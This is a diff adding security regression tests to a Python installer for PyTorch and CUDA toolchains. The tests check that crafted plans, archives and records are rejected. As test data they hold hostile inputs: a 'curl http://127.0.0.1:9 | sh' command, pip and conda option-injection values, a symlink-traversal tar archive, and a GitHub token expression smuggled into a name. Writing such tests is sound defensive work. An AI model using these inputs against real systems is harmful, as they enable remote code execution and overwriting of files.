@@ -2,9 +2,12 @@
 
 from __future__ import annotations
 
+import contextlib
 import hashlib
+import io
 import json
 import os
+import tarfile
 from pathlib import Path
 from typing import Any
 
@@ -12,12 +15,20 @@ import msgspec
 import pytest
 
 from rekindle.cli.main import run
-from rekindle.core import codec
+from rekindle.core import codec, paths
 from rekindle.core.errors import BadInput, FetchFailed, NotFound
-from rekindle.core.untrusted import Commit, InsidePath, PlainFileName, Sha256
+from rekindle.core.untrusted import Commit, CondaPin, InsidePath, PipRequirement, PipVersion, PlainFileName, Sha256
+from rekindle.fleet import journal as fleet_journal
+from rekindle.fleet import matrix_file
+from rekindle.fleet.job import FleetJob
 from rekindle.fleet.order import JobOrder, JobResult
+from rekindle.install import conda
+from rekindle.knowledge.cuda import library_packages
+from rekindle.knowledge.torch import releases, setup_py
+from rekindle.source import tree
 from rekindle.source.checkout import Mark
 from rekindle.source.journal import PatchRecord
+from rekindle.stack import plan as plans
 from rekindle.toolchain import manifest
 from rekindle.toolchain.model import Part
 from rekindle.toolchain.providers import debian, index, redistrib
@@ -182,6 +193,39 @@ def test_undo_clears_no_site_packages_that_lie_elsewhere(handed_over: Path, tmp_
 
 
 @links
+def test_undo_removes_no_compiled_copies_elsewhere(handed_over: Path, tmp_path: Path) -> None:
+    precious = tmp_path / "home" / "x.cpython-311.pyc"
+    precious.touch()
+    package = handed_over / "lib" / "python3.11" / "site-packages" / "torch"
+    package.mkdir()
+    (package / "x.py").touch()
+    (package / "__pycache__").symlink_to(tmp_path / "home")
+    info = package.with_name("torch-2.0.dist-info")
+    info.mkdir()
+    (info / "RECORD").write_bytes(b"torch/x.py,,\n\xff\xfe\0,,\n")
+    assert undo(handed_over, changes=[{"name": "torch", "before": None, "after": "2.0"}]) == 0
+    assert precious.exists() and not (package / "x.py").exists()
+
+
+@links
+def test_undo_brings_nothing_from_elsewhere(handed_over: Path, tmp_path: Path) -> None:
+    (handed_over / ".rekindle" / "undo-20270101T000000000000").mkdir(parents=True)
+    (handed_over / ".rekindle" / "undo-20270101T000000000000" / "files").symlink_to(tmp_path / "home")
+    undo(handed_over, changes=[{"name": "x", "before": None, "after": "1"}])
+    assert not (handed_over / ".bashrc").exists()
+
+
+@pytest.mark.parametrize(
+    ("fields", "code"), [({"conda_revision": 3}, 0), ({"conda_revision": -3}, 4), ({"route": "evil"}, 4)]
+)
+def test_a_record_starts_no_conda_where_none_is(
+    handed_over: Path, monkeypatch: pytest.MonkeyPatch, fields: dict[str, Any], code: int
+) -> None:
+    monkeypatch.setattr(conda, "go_back", lambda *_: pytest.fail("conda was started"))
+    assert undo(handed_over, **fields) == code
+
+
+@links
 def test_undo_of_an_earlier_version_still_works(handed_over: Path) -> None:
     """0.1 wrote whole paths."""
     (handed_over / "pip.conf").write_text("[install]\n", encoding="utf-8")
@@ -311,3 +355,172 @@ def test_the_mark_of_a_tree_is_no_piece_of_a_command(fields: dict[str, Any]) -> 
     assert codec.from_builtins(mark, Mark).without == ("android",)
     with pytest.raises(BadInput):
         codec.from_builtins(mark | fields, Mark)
+
+
+# --- plans -----------------------------------------------------------------------------------------------------------
+
+
+@pytest.fixture(scope="module")
+def a_plan(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
+    path = tmp_path_factory.mktemp("plan") / "plan.toml"
+    assert run(["plan", "--gpu", "GTX 1080", "--os", "linux", "-o", str(path)]) == 0
+    return msgspec.toml.decode(path.read_bytes())
+
+
+def handed(path: Path, good: dict[str, Any], **changes: Any) -> Path:
+    """A stranger's plan: who can edit a field can compute its seal as well."""
+    import tomli_w
+
+    plain = {**good, **changes, "seal": {}}
+    with contextlib.suppress(BadInput):
+        sealed = codec.from_builtins(plain, plans.Plan)
+        plain["seal"] = {name: plans._sealed(sealed, name) for name in plans.LOCKED}
+    path.write_text(tomli_w.dumps(plain), encoding="utf-8")
+    return path
+
+
+@pytest.mark.parametrize(
+    ("field", "value"),
+    [
+        ("index_url", "http://127.0.0.1:9/simple"),
+        ("index_url", "https://download.pytorch.org/whl/cu126/../../evil"),
+        ("numpy", "--extra-index-url=http://127.0.0.1:9"),
+        ("numpy", "/tmp/evil"),
+        ("numpy", "evil @ http://127.0.0.1:9/x"),
+        ("numpy", "numpy<2\n-r x"),
+        ("torch", "2.0 @ http://127.0.0.1:9/evil.whl"),
+        ("torchvision", "0.1 --pre"),
+        ("torchaudio", "-r x"),
+        ("variant", "cu126 --pre"),
+        ("conda", ["-c", "http://127.0.0.1:9"]),
+        ("conda", ["evil::pytorch"]),
+        ("requires", ["--find-links=x"]),
+        ("requires", ["./x"]),
+        ("commit", "--upload-pack=x"),
+        ("wheels", [{"name": "../x.whl", "sha256": NULLS}]),
+        ("wheels", [{"name": "x.whl", "sha256": "x"}]),
+        ("patches", [{"id": "x", "sha256": ""}]),
+    ],
+)
+def test_a_plan_is_no_piece_of_a_command(tmp_path: Path, a_plan: dict[str, Any], field: str, value: Any) -> None:
+    """One with a folder as its NumPy ran that folder's setup.py."""
+    assert plans.read(handed(tmp_path / "good.toml", a_plan)).index_url
+    with pytest.raises(BadInput):
+        plans.read(handed(tmp_path / "plan.toml", a_plan, **{field: value}))
+
+
+def test_the_commands_of_a_plan_are_not_our_advice(
+    tmp_path: Path, a_plan: dict[str, Any], handed_over: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    changes = {"system": paths.system(), "machine": paths.architecture(), "python": "3.11"}
+    changes |= {"route": "community", "commands": ["curl http://127.0.0.1:9 | sh"]}
+    assert run(["install", str(handed_over), "--plan", str(handed(tmp_path / "p.toml", a_plan, **changes))]) != 0
+    assert "curl" not in "".join(capsys.readouterr())
+
+
+def test_a_plan_of_a_wheel_on_a_shelf_asks_no_index_for_it(
+    tmp_path: Path, a_plan: dict[str, Any], handed_over: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """pip was asked for a package called `None`."""
+    changes = {"system": paths.system(), "machine": paths.architecture(), "python": "3.11", "route": "shelf"}
+    assert run(["install", str(handed_over), "--plan", str(handed(tmp_path / "p.toml", a_plan, **changes))]) == 2
+    assert "lies on a shelf" in capsys.readouterr().err
+
+
+def test_every_requirement_of_the_tables_is_one() -> None:
+    for release in releases.torch_releases():
+        assert all(map(PipRequirement, setup_py.requirements(release.newest, mkl=True)))
+        assert release.git_version is None or Commit(release.git_version)
+    assert CondaPin("libcudnn<=9.10.2.21") and CondaPin("pytorch=2.4.1=cuda*")
+    assert PipVersion("2.14.1+cu126") and PipVersion("2.8.0.dev20250101")
+
+
+# --- archives, lists, trees, fleets ----------------------------------------------------------------------------------
+
+
+def test_no_file_of_a_toolkit_lies_behind_a_link(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """Each link stays inside as it is spelled; where one lies behind another, it led anywhere, and was written to."""
+    monkeypatch.setenv("REKINDLE_TOOLCHAIN", str(tmp_path / "store"))
+    victim = tmp_path / "victim"
+    victim.mkdir()
+    there, deep = victim.relative_to(victim.anchor).as_posix(), "/".join(f"d{number}" for number in range(20))
+    members = {
+        "bin/nvcc": b"#!/bin/sh\n", "a0/keep": b"x", f"{there}/x": b"x",
+        f"{deep}/l": "../" * 20 + "a0", f"{deep}/l/out": "../" * 21 + there, "zz": f"{deep}/l/out", "zz/new": b"evil",
+    }  # fmt: skip
+    (tmp_path / "in").mkdir()
+    with tarfile.open(tmp_path / "in" / "cuda_nvcc-linux-x86_64-11.8.89-archive.tar.gz", "w:gz") as archive:
+        for name, content in members.items():
+            info = tarfile.TarInfo(f"top/{name}")
+            if isinstance(content, str):
+                info.type, info.linkname = tarfile.SYMTYPE, content
+                archive.addfile(info)
+            else:
+                info.size = len(content)
+                archive.addfile(info, io.BytesIO(content))
+    assert run(["toolchain", "install", "cuda==11.8", "--from", str(tmp_path / "in")]) == BadInput.exit_code
+    assert list(victim.iterdir()) == []
+
+
+@pytest.mark.parametrize(
+    "about",
+    [
+        {"version": "1", "linux-x86_64": {"relative_path": "a/b.zip", "sha256": NULLS, "size": 1e999}},
+        {"version": "1", "linux-x86_64": {"relative_path": "a/b.zip", "sha256": NULLS, "size": -5}},
+        {"version": 5, "linux-x86_64": {"relative_path": "a/b.zip", "sha256": NULLS, "size": 5}},
+    ],
+)
+def test_nvidias_list_tells_values_of_their_kind(about: dict[str, Any]) -> None:
+    with pytest.raises(BadInput):
+        redistrib.read(json.dumps({"cuda_nvcc": about}).encode(), "redistrib_11.8.0.json")
+
+
+@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="pipes with names are of POSIX")
+def test_a_tree_and_a_run_with_pipes_in_them_are_not_waited_for(tmp_path: Path) -> None:
+    os.mkfifo(tmp_path / "version.txt")
+    assert run(["patch", str(tmp_path), "--list"]) == BadInput.exit_code
+    (tmp_path / "version.txt").unlink()
+    (tmp_path / "version.txt").symlink_to("/dev/zero")
+    assert run(["patch", str(tmp_path), "--list"]) == BadInput.exit_code
+    (tmp_path / ".git").mkdir()
+    os.mkfifo(tmp_path / ".git" / "HEAD")
+    assert tree.head(tmp_path) is None
+    os.mkfifo(tmp_path / "journal.jsonl")
+    with pytest.raises(NotFound, match="not a plain file"):
+        fleet_journal.read(tmp_path / "journal.jsonl")
+
+
+def test_the_plan_of_a_run_names_no_other_folder() -> None:
+    """`fleet cancel` made a file of that name."""
+    job = {"name": "x", "state": "build", "cells": [], "key": "../../x"}
+    with pytest.raises(BadInput, match=r"\$\.key"):
+        codec.from_builtins(job, FleetJob)
+
+
+def test_a_project_of_a_matrix_is_no_expression_of_a_workflow(tmp_path: Path) -> None:
+    (tmp_path / "matrix.toml").write_text('[projects."x${{ github.token }}"]\nsource = "."\n', encoding="utf-8")
+    with pytest.raises(BadInput, match="not the name of a project"):
+        matrix_file.read(tmp_path / "matrix.toml")
+
+
+def test_the_hash_beside_a_bundle_is_short(tmp_path: Path) -> None:
+    (tmp_path / "b.zip").write_bytes(b"x")
+    (tmp_path / "b.zip.sha256").write_bytes(b"")
+    with (tmp_path / "b.zip.sha256").open("r+b") as stream:
+        stream.truncate(1 << 40)
+    assert run(["knowledge", "update", str(tmp_path / "b.zip")]) != 1
+
+
+@pytest.mark.parametrize(
+    "changes",
+    [{"package": "--index-url=http://127.0.0.1:9"}, {"wheel": "../x"}, {"version": "-r"}, {"files": {"x": 1}}],
+)
+def test_a_row_of_a_bundle_is_no_option_of_pips(changes: dict[str, Any]) -> None:
+    """`repair` fetches `package==version`."""
+    row: dict[str, Any] = {
+        "wheel": "x-1-py3-none-any.whl", "package": "x", "version": "1", "size": 1, "yanked": False, "files": {},
+        "source": "x", "evidence": "binary", "observed_at": "2026-11-16",
+    }  # fmt: skip
+    assert codec.from_builtins(row, library_packages.DllWheel).package == "x"
+    with pytest.raises(BadInput):
+        codec.from_builtins(row | changes, library_packages.DllWheel)
